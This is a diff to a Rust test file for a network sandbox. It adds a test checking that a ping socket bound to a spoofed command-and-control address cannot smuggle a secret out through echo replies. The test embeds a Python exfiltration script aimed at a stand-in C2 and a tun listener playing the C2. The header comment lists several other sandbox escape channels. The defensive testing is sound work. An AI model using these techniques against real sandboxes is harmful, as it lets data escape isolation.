@@ -17,8 +17,10 @@
 //! or a host's `ip_nonlocal_bind`) opened a TCP connection from the sandbox's listener to
 //! the C2; the resolver answered a query from that source to the C2; `SO_REUSEPORT` let a
 //! sandbox join a nobody host service's group; `SO_REUSEADDR` let a sandbox's UDP socket
-//! take a host service's datagrams. Open: the resolver on a `ip_nonlocal_bind` host, and
-//! ICMP errors as an inbound channel.
+//! take a host service's datagrams; on a `ip_nonlocal_bind` host the resolver answered a
+//! query from a non-local source (bound, or named in an `IPV6_PKTINFO` control message),
+//! and a ping socket bound to the C2's address had the echo reply sent there; ICMP errors
+//! quoting a sandbox's datagram were an inbound channel through `IP_RECVERR`. All closed.
 
 use std::{
     io::{BufRead as _, BufReader, Write as _},
@@ -495,12 +497,29 @@ fn a_sandbox_binds_the_hosts_addresses_and_no_other() {
         "closed",
         PY_BIND_ADDRS,
         &[
-            OWN4, OWN6, "127.0.0.53", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", C2_6, C2_4,
-            "::ffff:198.51.100.66", "2001:db8::77",
+            OWN4,
+            OWN6,
+            "127.0.0.53",
+            "::1",
+            "0.0.0.0",
+            "::",
+            "::ffff:127.0.0.1",
+            C2_6,
+            C2_4,
+            "::ffff:198.51.100.66",
+            "2001:db8::77",
         ],
     );
     println!("figure: binds before: {first}");
-    for ok in [OWN4, OWN6, "127.0.0.53", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1"] {
+    for ok in [
+        OWN4,
+        OWN6,
+        "127.0.0.53",
+        "::1",
+        "0.0.0.0",
+        "::",
+        "::ffff:127.0.0.1",
+    ] {
         assert_eq!(first[ok], "ok", "{ok}: {first}");
     }
     for refused in [C2_6, C2_4, "::ffff:198.51.100.66", "2001:db8::77"] {
@@ -515,7 +534,10 @@ fn a_sandbox_binds_the_hosts_addresses_and_no_other() {
     let removed = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
     println!("figure: after the address was added {added}, after it was removed {removed}");
     assert_eq!(added["2001:db8::77"], "ok", "an added address: {added}");
-    assert_eq!(removed["2001:db8::77"], "EPERM", "a removed address: {removed}");
+    assert_eq!(
+        removed["2001:db8::77"], "EPERM",
+        "a removed address: {removed}"
+    );
 }
 
 /// A host service (outside every sandbox) running as nobody, like many daemons that drop
@@ -820,13 +842,12 @@ fn icmp_errors_from_a_host_the_sandbox_may_not_hear_carry_nothing_to_it() {
     let env = world_with("ar13-icmperr", HEARING_POLICY, &[C2_4]);
     for policy in ["closed", "hearing"] {
         let command = format!("cmd-{}", random_suffix());
-        let mut reader =
-            hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
-                &env,
-                policy,
-                &[],
-                &[python(), "-c", PY_ERRQUEUE, OWN4],
-            ));
+        let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+            &env,
+            policy,
+            &[],
+            &[python(), "-c", PY_ERRQUEUE, OWN4],
+        ));
         assert_eq!(reader.line(), "ready");
         let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
         if let Some(s) = c2.stdin.as_mut() {
@@ -982,3 +1003,84 @@ fn shared_ports_are_refused_beside_the_host_only() {
     assert_eq!(own["reuseport"], "ok", "{own}");
     assert_eq!(own["udp_reuseaddr"], "ok", "{own}");
 }
+
+/// In the sandbox: an ICMPv6 ping socket bound to the C2's address (ping sockets have
+/// a bind of their own, `ping_bind`, for which the kernel runs no `cgroup/bind6`) sends
+/// an echo request with the secret to the sandbox's own (allowed) address; the echo
+/// reply, secret included, is addressed to the bound source.
+const PY_PING_SPOOF: &str = r#"
+import json, socket, struct, sys, time
+own, c2, secret = sys.argv[1], sys.argv[2], sys.argv[3]
+res = {}
+try:
+    p = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
+except OSError as e:
+    res["socket"] = str(e); print(json.dumps(res)); sys.exit(0)
+try:
+    p.bind((c2, 0)); res["bind"] = "ok"
+except OSError as e:
+    res["bind"] = str(e); print(json.dumps(res)); sys.exit(0)
+try:
+    for i in range(3):
+        p.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, i) + secret.encode(), (own, 0))
+    res["sent"] = True
+except OSError as e:
+    res["sent"] = str(e)
+time.sleep(1)
+print(json.dumps(res))
+"#;
+
+/// Ping sockets (open to every group here, as many distributions set
+/// `net.ipv4.ping_group_range`) on a host with `net.ipv6.ip_nonlocal_bind = 1`: their
+/// bind runs no cgroup hook, so the echo request leaves from the C2's address and the
+/// host's echo reply carries the secret to the C2. Now `cgroup_skb/egress` drops an
+/// IPv6 packet other than TCP and UDP from a source that is not the host's (reason
+/// `nonlocal_source`).
+#[test]
+fn a_ping_socket_bound_to_a_foreign_source_sends_nothing_to_it() {
+    let env = world("ar13-pingspoof");
+    nonlocal("sysctl");
+    ip_sysctl("net.ipv4.ping_group_range=0 2147483647");
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_ICMP6_SEEN, &[C2_NET6]);
+    let got = sandbox_json(&env, "closed", PY_PING_SPOOF, &[OWN6, C2_6, &secret]);
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: ping: sandbox {got}; C2 saw {} ICMPv6 packet(s), secret {}",
+        seen["packets"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the echo reply reached the C2: {seen}"
+    );
+    env.wait_event("the echo request from the C2's address dropped", |e| {
+        e["hook"] == "skb_egress" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+    });
+}
+
+/// The C2 as a tun device that records every ICMPv6 packet routed to its network.
+const PY_C2_ICMP6_SEEN: &str = r#"
+import fcntl, json, os, select, struct, subprocess, sys
+net = sys.argv[1]
+tun = os.open("/dev/net/tun", os.O_RDWR)
+fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"hbc2", 0x0001 | 0x1000))
+subprocess.run(["ip", "link", "set", "hbc2", "up"], check=True)
+subprocess.run(["ip", "-6", "route", "add", net, "dev", "hbc2"], check=True)
+packets, payload = 0, b""
+print("ready", flush=True)
+while True:
+    r, _, _ = select.select([tun, sys.stdin], [], [])
+    if sys.stdin in r:
+        break
+    pkt = os.read(tun, 65535)
+    if len(pkt) >= 48 and pkt[0] >> 4 == 6 and pkt[6] == 58:
+        packets += 1
+        payload += pkt[48:]
+print(json.dumps({"packets": packets, "payload": payload.decode("latin-1")}), flush=True)
+"#;
